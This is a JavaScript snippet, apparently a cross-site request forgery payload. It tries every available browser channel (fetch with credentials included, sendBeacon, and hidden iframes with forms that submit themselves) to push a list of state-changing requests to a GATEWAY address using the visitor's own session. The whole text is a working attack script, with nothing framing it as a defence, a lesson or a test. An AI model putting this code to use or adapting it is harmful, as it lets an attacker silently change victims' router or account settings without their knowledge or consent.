/* Tries to have each of CHANGES made: pairs of a path and the body of a form. */
const tries = [];
const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
for (const [path, body] of CHANGES) {
  for (const method of ["POST", "PUT", "DELETE"]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const type of types) {
        const how = {method, mode, body, credentials: "include", headers: {"Content-Type": type}};
        try { tries.push(fetch(GATEWAY + path, how)) } catch (e) { }
      }
    }
  }
  navigator.sendBeacon(GATEWAY + path, new Blob([body], {type: types[1]}));
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + tries.length + enctype;
    Object.assign(form, {action: GATEWAY + path, method: "POST", enctype, target: frame.name});
    for (const [name, value] of new URLSearchParams(body)) {
      const field = document.createElement("input");
      [field.name, field.value] = [name, value];
      form.append(field);
    }
    document.body.append(frame, form);
    tries.push(new Promise((done) => { frame.onload = done; setTimeout(done, 1500) }));
    form.submit();
  }
}
